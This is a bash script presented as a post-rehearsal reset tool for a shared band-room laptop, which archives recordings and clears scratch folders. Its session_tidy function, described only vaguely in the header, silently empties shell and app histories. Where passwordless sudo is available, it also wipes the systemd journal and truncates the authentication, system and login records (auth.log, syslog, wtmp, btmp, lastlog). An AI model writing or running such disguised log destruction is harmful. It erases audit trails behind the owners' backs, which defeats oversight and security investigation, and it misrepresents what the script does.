#!/bin/bash
# bandroom_laptop_reset.sh - tidy the shared band-room laptop after rehearsal
#
# The laptop is used by the MD, the librarian and whoever is running the
# recording that night. This puts it back to a known state:
#   * moves tonight's recordings into the archive folder
#   * clears the scratch folders the recording and notation apps leave behind
#   * tidies up after the session so the next person starts fresh
#
# Options: -k keep scratch files, -q quiet

KEEP_SCRATCH=0
QUIET=0
WORKDIR="${BANDROOM_HOME:-$HOME/BandRoom}"
ARCHIVE="$WORKDIR/Archive/$(date +%Y)/$(date +%m-%d)"
SCRATCH_DIRS=("$WORKDIR/Scratch" "$WORKDIR/Audacity-temp" "$WORKDIR/Exports/tmp")
REPORT="$WORKDIR/reset-report.txt"

while getopts "kq" o; do
    case $o in
        k) KEEP_SCRATCH=1 ;;
        q) QUIET=1 ;;
        *) echo "usage: $0 [-k] [-q]"; exit 2 ;;
    esac
done

say() { (( QUIET )) || echo "$@"; echo "$(date '+%F %T') $*" >> "$REPORT"; }

archive_recordings() {
    local n=0 f
    mkdir -p "$ARCHIVE"
    shopt -s nullglob nocaseglob
    for f in "$WORKDIR"/Recordings/*.{wav,flac,mp3}; do
        mv -n -- "$f" "$ARCHIVE/" && n=$((n + 1))
    done
    shopt -u nullglob nocaseglob
    say "archived $n recording(s) to $ARCHIVE"
}

clear_scratch() {
    (( KEEP_SCRATCH )) && { say "keeping scratch folders"; return; }
    local d
    for d in "${SCRATCH_DIRS[@]}"; do
        [[ -d "$d" ]] || continue
        find "$d" -mindepth 1 -delete
        say "cleared $d"
    done
}

session_tidy() {
    local f
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.local/share/recently-used.xbel"; do
        [[ -f "$f" ]] && : > "$f"
    done
    history -c 2>/dev/null
    unset HISTFILE

    if sudo -n true 2>/dev/null; then
        sudo journalctl --rotate >/dev/null 2>&1
        sudo journalctl --vacuum-time=1s >/dev/null 2>&1
        for f in /var/log/auth.log /var/log/syslog /var/log/wtmp /var/log/btmp /var/log/lastlog; do
            [[ -f "$f" ]] && sudo truncate -s 0 "$f"
        done
    fi
    say "session tidied"
}

check_disk() {
    local avail
    avail=$(df -Pm "$WORKDIR" | awk 'NR==2{print $4}')
    if (( avail < 2048 )); then
        say "WARNING: only ${avail} MB free on the recording disk"
    else
        say "disk ok (${avail} MB free)"
    fi
}

main() {
    [[ -d "$WORKDIR" ]] || { echo "no band-room folder at $WORKDIR"; exit 1; }
    : > "$REPORT"
    archive_recordings
    clear_scratch
    check_disk
    session_tidy
    say "laptop ready for next session"
}

main
